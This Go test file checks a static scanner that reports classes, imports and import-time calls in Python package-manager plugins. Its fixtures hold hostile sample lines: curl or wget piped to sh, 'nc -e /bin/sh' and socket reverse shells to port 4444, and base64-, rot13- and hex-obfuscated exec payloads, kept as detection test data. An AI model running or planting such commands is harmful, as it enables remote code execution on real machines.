package pyscan

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"time"
)

func scan(t *testing.T, major int, src string) *Module {
	t.Helper()
	m, err := Options{Major: major}.Scan(strings.NewReader(src))
	if err != nil {
		t.Fatalf("scan: %v\n%s", err, src)
	}
	return m
}

const sample = `# -*- coding: utf-8 -*-
"""Docstring with class Fake(dnf.Plugin): inside."""
from __future__ import absolute_import
import dnf, os as _os
import dnf.cli
from dnf import Plugin as P
from dnf.plugin import Plugin
import subprocess

NAME = 'from-constant'

open('/tmp/marker', 'w')  # module-level code runs at import

class One(dnf.Plugin):
    """One plugin."""
    name = 'one'
    config_name = "one-conf"

    def __init__(self, base, cli):
        super(One, self).__init__(base, cli)
        name = 'not-an-attribute'

class Two(P,
          object):
    name = ('two'
            'suffix')

class Three(Plugin, metaclass=type):
    name = NAME

class Indirect(One):
    name = 'indirect'

class Computed(dnf.Plugin):
    name = 'x' + 'y'

class Unknown(dnf.Plugin):
    name = conf.get('n')

def helper():
    class Hidden(dnf.Plugin):
        name = 'hidden'

def pretrans_hook(conduit):
    s = r'raw \' string' ; t = b"bytes"
    u = f"{conduit}"
    return s

async def posttrans_hook(c): pass

if True:
    class Conditional(dnf.Plugin):
        name = 'conditional'

@dnf.plugin.register_command
class BuildDepCommand(dnf.cli.Command):
    aliases = ('builddep', 'build-dep')
`

// TestScan: classes, bases, attributes, decorators, functions and imports,
// as the plugin tables read them.
func TestScan(t *testing.T) {
	m := scan(t, 3, sample)
	type cls struct {
		name  string
		bases []string
		attr  string
		lit   bool
	}
	var got []cls
	for _, c := range m.Classes {
		a := c.Attrs["name"]
		got = append(got, cls{c.Name, c.Bases, a.Text, a.Literal})
	}
	want := []cls{
		{"One", []string{"dnf.Plugin"}, "one", true},
		{"Two", []string{"dnf.Plugin", "object"}, "twosuffix", true},
		{"Three", []string{"dnf.plugin.Plugin"}, "from-constant", true},
		{"Indirect", []string{"One"}, "indirect", true},
		{"Computed", []string{"dnf.Plugin"}, "xy", true},
		{"Unknown", []string{"dnf.Plugin"}, "conf.get('n')", false},
		{"Conditional", []string{"dnf.Plugin"}, "conditional", true},
		{"BuildDepCommand", []string{"dnf.cli.Command"}, "", false},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("classes:\n got %#v\nwant %#v", got, want)
	}
	last := m.Classes[len(m.Classes)-1]
	if !reflect.DeepEqual(last.Decorators, []string{"dnf.plugin.register_command"}) || !reflect.DeepEqual(last.Attrs["aliases"].Items, []string{"builddep", "build-dep"}) {
		t.Errorf("decorated class: %+v", last)
	}
	if m.Classes[0].Attrs["config_name"].Text != "one-conf" {
		t.Errorf("config_name: %+v", m.Classes[0].Attrs)
	}
	var fns []string
	for _, f := range m.Functions {
		fns = append(fns, f.Qual)
	}
	if !reflect.DeepEqual(fns, []string{"One.__init__", "helper", "pretrans_hook", "posttrans_hook"}) {
		t.Errorf("functions: %v", fns)
	}
	if m.Imports["_os"] != "os" || m.Imports["P"] != "dnf.Plugin" || m.Imports["dnf"] != "dnf" {
		t.Errorf("imports: %v", m.Imports)
	}
	if v, ok := m.Constant("NAME"); !ok || v != "from-constant" {
		t.Errorf("NAME = %q %v", v, ok)
	}
	if m.Py3Only == nil || m.Py2Only != nil {
		t.Errorf("dialect: py2 %v py3 %v", m.Py2Only, m.Py3Only)
	}
}

// TestWhen: what runs at import, and on which condition.
func TestWhen(t *testing.T) {
	src := `import sys, os
from typing import TYPE_CHECKING
DEBUG = False
a = 1
try:
    b = 1
except ImportError:
    c = 1
except:
    c2 = 1
else:
    d = 1
finally:
    e = 1
if True:
    f = 1
if 0:
    g = 1
else:
    h = 1
if os.path.exists('/x'):
    i = 1
elif DEBUG:
    j = 1
else:
    k = 1
if __name__ == '__main__':
    l = 1
if __name__ != "__main__" and not DEBUG:
    l2 = 1
if sys.version_info[0] >= 3:
    m = 1
else:
    n = 1
if sys.version_info < (3,):
    m2 = 1
if sys.version_info < (3, 6):
    m3 = 1
if TYPE_CHECKING:
    o = 1
with open('/x') as fh:
    p = 1
for q in [1, 2]:
    r = 1
else:
    r2 = 1
for s in ():
    u = 1
for v in sys.argv:
    w = 1
while False:
    x = 1
else:
    x2 = 1
while True:
    y = 1
    break
while os.environ.get('X'):
    z = 1
class C:
    if os.getuid() == 0:
        class D:
            attr = 1
def fn():
    inner = 1
`
	m := scan(t, 3, src)
	want := map[string]string{
		"a": "certainly", "b": "certainly", "c": "possibly (except ImportError)", "c2": "possibly (except)",
		"d": "certainly", "e": "certainly", "f": "certainly", "g": "never (if 0 is false at import)",
		"h": "certainly", "i": "possibly (if os.path.exists('/x'))",
		"j": "never (not (os.path.exists('/x')) and DEBUG is false at import)",
		"k": "possibly (not os.path.exists('/x'))",
		"l": "never (if __name__ == '__main__' is false at import)", "l2": "certainly",
		"m": "certainly", "n": "never (an earlier branch is always taken)",
		"m2": "never (if sys.version_info < (3,) is false at import)",
		"m3": "possibly (if sys.version_info < (3, 6))",
		"o":  "never (if TYPE_CHECKING is false at import)", "p": "certainly", "fh": "certainly",
		"q": "certainly", "r": "certainly", "r2": "possibly (for q in [1, 2] ends without break)",
		"u": "never (for s in (): the sequence is empty)", "w": "possibly (for v in sys.argv)",
		"x": "never (while False is false at import)", "x2": "certainly", "y": "certainly",
		"z": "possibly (while os.environ.get('X'))", "C": "certainly",
	}
	for name, w := range want {
		bs := m.Globals[name]
		if len(bs) == 0 {
			t.Errorf("%s: not bound", name)
			continue
		}
		if got := bs[len(bs)-1].When.String(); got != w {
			t.Errorf("%s: %s, want %s", name, got, w)
		}
	}
	if _, ok := m.Globals["inner"]; ok {
		t.Error("a def body's name is a module name")
	}
	var d *Class
	for i := range m.Classes {
		if m.Classes[i].Qual == "C.D" {
			d = &m.Classes[i]
		}
	}
	if d == nil || d.When.String() != "possibly (if os.getuid() == 0)" || d.Attrs["attr"].When.Run != Certain {
		t.Errorf("nested class: %+v", d)
	}
	// without the major version, version checks stay open
	m = scan(t, 0, src)
	if got := m.Globals["m"][0].When.String(); got != "possibly (if sys.version_info[0] >= 3)" {
		t.Errorf("m without a major version: %s", got)
	}
}

func callLines(m *Module) []string {
	var out []string
	for _, c := range m.Calls {
		out = append(out, c.String())
	}
	return out
}

// TestCalls: each kind of call, where it is, and its argument rendered.
func TestCalls(t *testing.T) {
	src := `import os, sys, base64 as b64, zlib, codecs, binascii
import subprocess as sp
from subprocess import check_output
from os import *
import socket, requests, urllib2
import urllib.request
import http.client
import importlib
import pty
run = os.system
URL = 'http://203.0.113.5/p.sh'
os.system('id; uname -a')
sp.Popen(['/bin/sh', '-c', 'curl -s ' + URL + ' | sh'], shell=False)
check_output(args=['ls', '-l', "it's"])
sp.run("wget %s -O /tmp/x" % URL, shell=True)
sp.call("echo {} {name}".format(1, name='n'))
run('via alias')
system('via star import')
os.popen(" ".join(["nc", "-e", "/bin/sh", "1.2.3.4", "4444"]))
os.execl('/bin/sh', 'sh', '-c', 'id')
os.execve('/bin/sh', ['sh', '-c', 'id'], {})
os.spawnlpe(os.P_WAIT, 'ls', 'ls', '-a', {})
pty.spawn(['/bin/bash', '-i'])
exec("import os; os.system('nested')")
eval(compile('1+1', '<s>', 'eval'))
exec(b64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))
exec(zlib.decompress(b64.b64decode('eJwrKMrMK9FQz8hU1wQAGKEDng==')))
os.system(codecs.decode('phey uggc://rivy/k | fu', 'rot13'))
os.system(bytes.fromhex('6964').decode())
os.system(binascii.unhexlify('6964'))
os.system('hs | x/live//:ptth lruc'[::-1])
getattr(os, 'system')('via getattr')
__import__('os').system('via __import__')
importlib.import_module('pty').spawn('/bin/sh')
socket.create_connection(('198.51.100.7', 443))
requests.get('https://example.invalid/a', timeout=3)
urllib2.urlopen('http://example.invalid/b')
urllib.request.urlretrieve('http://example.invalid/c', '/tmp/c')
http.client.HTTPSConnection('example.invalid')
f = lambda cmd: os.system(cmd)
[os.system(c) for c in ('a', 'b')]
t = os.system('short') if os.path.exists('/x') else None
if __name__ == '__main__':
    os.system('main only')
try:
    import yum
except ImportError:
    os.system('fallback')
def hook(conduit):
    cmd = '/usr/local/bin/zz --flag'
    os.system(cmd)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("10.0.0.1", 4444))
    def inner():
        os.system(f"echo {conduit}")
class K:
    def m(self):
        os.system(self.cmd)
x = f"{os.system('in an f-string')}"
`
	m := scan(t, 3, src)
	want := []string{
		"12 import os.system id; uname -a",
		"13 import subprocess.Popen /bin/sh -c 'curl -s http://203.0.113.5/p.sh | sh'",
		`14 import subprocess.check_output ls -l 'it'"'"'s'`,
		"15 import subprocess.run wget http://203.0.113.5/p.sh -O /tmp/x",
		"16 import subprocess.call echo 1 n",
		"17 import os.system via alias",
		"18 import os.system via star import",
		"19 import os.popen nc -e /bin/sh 1.2.3.4 4444",
		"20 import os.execl /bin/sh -c id",
		"21 import os.execve /bin/sh -c id",
		"22 import os.spawnlpe ls -a",
		"23 import pty.spawn /bin/bash -i",
		"24 import exec import os; os.system('nested')",
		"24 import os.system nested",
		"25 import compile 1+1",
		"25 import eval {compile('1+1', '<s>', 'eval')}",
		`26 import exec(base64.b64decode) import os; os.system("id")`,
		`26 import os.system id`,
		"27 import exec(zlib.decompress(base64.b64decode)) print('hi')",
		"28 import os.system(codecs.decode) curl http://evil/x | sh",
		"29 import os.system(bytes.fromhex) id",
		"30 import os.system(binascii.unhexlify) id",
		"31 import os.system curl http://evil/x | sh",
		"32 import os.system via getattr",
		"33 import __import__ os",
		"33 import os.system via __import__",
		"34 import importlib.import_module pty",
		"34 import pty.spawn /bin/sh",
		"35 import socket.create_connection 198.51.100.7:443",
		"36 import requests.get https://example.invalid/a",
		"37 import urllib2.urlopen http://example.invalid/b",
		"38 import urllib.request.urlretrieve http://example.invalid/c, /tmp/c",
		"39 import http.client.HTTPSConnection example.invalid",
		"40 def:<lambda> os.system {cmd}",
		"41 import? os.system {c}",
		"42 import? os.system short",
		"44 never os.system main only",
		"48 import? os.system fallback",
		"51 def:hook os.system /usr/local/bin/zz --flag",
		"52 def:hook socket.socket socket.AF_INET, socket.SOCK_STREAM",
		"53 def:hook socket.connect 10.0.0.1:4444",
		"55 def:hook.<locals>.inner os.system echo {conduit}",
		"58 def:K.m os.system {self.cmd}",
		"59 import os.system in an f-string",
	}
	got := callLines(m)
	if !reflect.DeepEqual(got, want) {
		t.Errorf("calls:\n%s", diffLines(got, want))
	}
	for _, c := range m.Calls {
		if strings.ContainsAny(c.String(), "\n\r") {
			t.Errorf("call on several lines: %q", c.String())
		}
	}
}

func diffLines(got, want []string) string {
	var b strings.Builder
	for i := 0; i < len(got) || i < len(want); i++ {
		g, w := "", ""
		if i < len(got) {
			g = got[i]
		}
		if i < len(want) {
			w = want[i]
		}
		mark := "  "
		if g != w {
			mark = "≠ "
		}
		fmt.Fprintf(&b, "%sgot  %s\n%swant %s\n", mark, g, mark, w)
	}
	return b.String()
}

// TestPython2Plugin: a YUM 3 plugin in Python 2 with what Python 3
// refuses; it is read, and says it is Python 2.
func TestPython2Plugin(t *testing.T) {
	src := `import os, commands
from yum.plugins import TYPE_CORE
requires_api_version = '2.3'
plugin_type = (TYPE_CORE,)
mode = 0755
big = 10L
def init_hook(conduit):
    print "init", ` + "`conduit`" + `
    if 1 <> 2:
        exec "os.system('from exec')"
def posttrans_hook(conduit):
    try:
        out = commands.getoutput('/usr/bin/id')
    except OSError, e:
        print >>sys.stderr, e
        raise RuntimeError, "failed"
    label = ur'raw'
`
	m := scan(t, 2, src)
	if m.Py2Only == nil || m.Py3Only != nil {
		t.Fatalf("dialect: py2 %v py3 %v", m.Py2Only, m.Py3Only)
	}
	if v, ok := m.Constant("requires_api_version"); !ok || v != "2.3" {
		t.Errorf("requires_api_version = %q %v", v, ok)
	}
	want := []string{
		"10 def:init_hook exec os.system('from exec')",
		"10 def:init_hook os.system from exec",
		"13 def:posttrans_hook commands.getoutput /usr/bin/id",
	}
	if got := callLines(m); !reflect.DeepEqual(got, want) {
		t.Errorf("calls:\n%s", diffLines(got, want))
	}
}

// TestErrors: what no Python compiles is an *Error; a read error is not.
func TestErrors(t *testing.T) {
	for _, src := range []string{"x = 'unterminated\n", "x = '''never closed\n", "f(\n", "x = )\n",
		"def f():\nreturn 1\n", "print 'a'\nprint(f'{b}')\n"} {
		_, err := ScanBytes([]byte(src))
		var se *Error
		if !errors.As(err, &se) {
			t.Errorf("%q: %v, want a syntax error", src, err)
		}
	}
	boom := errors.New("disk on fire")
	for _, r := range []io.Reader{errReader{boom}, io.MultiReader(strings.NewReader("x = 1\n"), errReader{boom})} {
		_, err := Scan(r)
		var se *Error
		if !errors.Is(err, boom) || errors.As(err, &se) {
			t.Errorf("read error: %v", err)
		}
	}
}

type errReader struct{ err error }

func (r errReader) Read([]byte) (int, error) { return 0, r.err }

// patterned streams n bytes made of head, then fill repeated, then tail.
type patterned struct {
	head, fill, tail []byte
	n, off           int64
}

func (p *patterned) Read(b []byte) (int, error) {
	total := int64(len(p.head)) + p.n + int64(len(p.tail))
	if p.off >= total {
		return 0, io.EOF
	}
	i := 0
	for i < len(b) && p.off < total {
		switch {
		case p.off < int64(len(p.head)):
			b[i] = p.head[p.off]
		case p.off < int64(len(p.head))+p.n:
			b[i] = p.fill[(p.off-int64(len(p.head)))%int64(len(p.fill))]
		default:
			b[i] = p.tail[p.off-int64(len(p.head))-p.n]
		}
		i++
		p.off++
	}
	return i, nil
}

// TestStreamingBounded: a huge comment, string literal or list does not
// make the scan hold it; the literal is kept truncated.
func TestStreamingBounded(t *testing.T) {
	const size = 48 << 20
	cases := []struct {
		name             string
		head, fill, tail string
		check            func(*Module) error
	}{
		{"comment", "import os\nclass P(object):\n    name = 'p'\n#", "padding ", "\nos.system('after')\n", func(m *Module) error {
			if len(m.Calls) != 1 || m.Calls[0].Arg != "after" {
				return fmt.Errorf("calls %v", callLines(m))
			}
			return nil
		}},
		{"string", "import os\nos.system('", "A", "')\n", func(m *Module) error {
			c := m.Calls[0]
			if !c.Truncated || len(c.Arg) > maxArg+8 || !strings.HasPrefix(c.Arg, "AAAA") {
				return fmt.Errorf("call %+v", c.String()[:64])
			}
			return nil
		}},
		{"list", "x = [", "1, ", "]\n", func(m *Module) error {
			if len(m.Limits) == 0 {
				return fmt.Errorf("no limit reported")
			}
			return nil
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			runtime.GC()
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			m, err := Scan(&patterned{head: []byte(c.head), fill: []byte(c.fill), tail: []byte(c.tail), n: size})
			runtime.ReadMemStats(&after)
			if err != nil {
				t.Fatal(err)
			}
			if err := c.check(m); err != nil {
				t.Error(err)
			}
			// everything allocated along the way, garbage included
			if alloc := after.TotalAlloc - before.TotalAlloc; c.name != "list" && alloc > 8<<20 {
				t.Errorf("allocated %d MiB scanning %d MiB", alloc>>20, size>>20)
			}
			if after.HeapInuse > before.HeapInuse+64<<20 {
				t.Errorf("heap grew by %d MiB", (after.HeapInuse-before.HeapInuse)>>20)
			}
		})
	}
}

// TestLimits: a literal past MaxLiteral is kept truncated and says so.
func TestLimits(t *testing.T) {
	m, err := Options{MaxLiteral: 16}.Scan(strings.NewReader("import os\nos.system('0123456789abcdefghij')\nX = 'abcdefghijklmnopqrstuvwxyz'\n"))
	if err != nil {
		t.Fatal(err)
	}
	if c := m.Calls[0]; c.Arg != "0123456789abcdef…" || !c.Truncated {
		t.Errorf("call %q", c.String())
	}
	if v := m.Globals["X"][0].Value; !v.Truncated || v.Text != "abcdefghijklmnop" {
		t.Errorf("X = %+v", v)
	}
	var b bytes.Buffer
	b.WriteString("import os\n")
	for i := 0; i < maxCalls+10; i++ {
		b.WriteString("os.system('x')\n")
	}
	m, err = ScanBytes(b.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Calls) != maxCalls || len(m.Limits) != 1 {
		t.Errorf("%d calls, limits %v", len(m.Calls), m.Limits)
	}
}

// TestManyLiterals: a statement or a module of many large literals keeps
// a bounded amount of them.
func TestManyLiterals(t *testing.T) {
	big := "'" + strings.Repeat("A", 60<<10) + "'"
	var stmt, mod strings.Builder
	stmt.WriteString("x = [")
	for i := 0; i < 200; i++ {
		stmt.WriteString(big + ",\n")
		fmt.Fprintf(&mod, "v%d = %s\n", i, big)
	}
	stmt.WriteString("]\n")
	for _, src := range []string{stmt.String(), mod.String()} {
		runtime.GC()
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		m, err := ScanBytes([]byte(src))
		runtime.GC() // what the module keeps
		runtime.ReadMemStats(&after)
		if err != nil {
			t.Fatal(err)
		}
		if len(m.Limits) == 0 {
			t.Error("no limit reported")
		}
		size := 0
		for _, bs := range m.Globals {
			for _, b := range bs {
				size += len(b.Value.Text)
			}
		}
		if size > maxValueBytes+cutValue*200 {
			t.Errorf("values keep %d bytes", size)
		}
		if after.HeapInuse > before.HeapInuse+24<<20 {
			t.Errorf("the module keeps %d MiB of %d MiB of source", (after.HeapInuse-before.HeapInuse)>>20, len(src)>>20)
		}
		runtime.KeepAlive(m)
	}
}

// TestFunctionsAtImport: what a function body defines counts, possibly,
// when module-level code calls the function (directly, through other
// functions, or as a decorator).
func TestFunctionsAtImport(t *testing.T) {
	m := scan(t, 3, `import dnf
def make():
    class Made(dnf.Plugin):
        name = 'made'
    return Made
def setup():
    global requires_api_version
    requires_api_version = '2.3'
def outer():
    inner()
def inner():
    global DEEP
    DEEP = 1
def register(cls):
    global REGISTERED
    REGISTERED = cls
    return cls
def unused():
    class Never(dnf.Plugin):
        name = 'never'
make()
if True:
    setup()
outer()
@register
class Decorated(object):
    pass
if __name__ == '__main__':
    unused()
`)
	var got []string
	for _, c := range m.Classes {
		got = append(got, c.Qual+": "+c.When.String())
	}
	want := []string{"Decorated: certainly", "make.<locals>.Made: possibly (when make() runs (reached from the import's call on line 21))"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("classes:\n got %q\nwant %q", got, want)
	}
	for name, w := range map[string]string{
		"requires_api_version": "possibly (when setup() runs (reached from the import's call on line 23))",
		"DEEP":                 "possibly (when inner() runs (reached from the import's call on line 24))",
		"REGISTERED":           "possibly (when register() runs (reached from the import's call on line 25))",
	} {
		bs := m.Globals[name]
		if len(bs) != 1 || bs[0].When.String() != w {
			t.Errorf("%s: %+v, want %s", name, bs, w)
		}
	}
}

// TestEvalBudget: names bound to displays of names (a fuzzer's find:
// B = (B, B, 0, B0, B) took seconds) cost bounded work.
func TestEvalBudget(t *testing.T) {
	var dag strings.Builder
	dag.WriteString("import os\nA0 = (1, 1, 1)\n")
	for i := 1; i < 30; i++ {
		fmt.Fprintf(&dag, "A%d = (A%d, A%d, A%d)\n", i, i-1, i-1, i-1)
	}
	dag.WriteString("if A29: os.system(A29)\nos.system(A29 + A29 if A29 else A29)\n")
	for _, src := range []string{"B=(B,B,0,B0,B)\nif B: pass\n", dag.String()} {
		start := time.Now()
		if _, err := ScanBytes([]byte(src)); err != nil {
			t.Fatal(err)
		}
		if d := time.Since(start); d > time.Second {
			t.Errorf("%.20q…: %v", src, d)
		}
	}
}
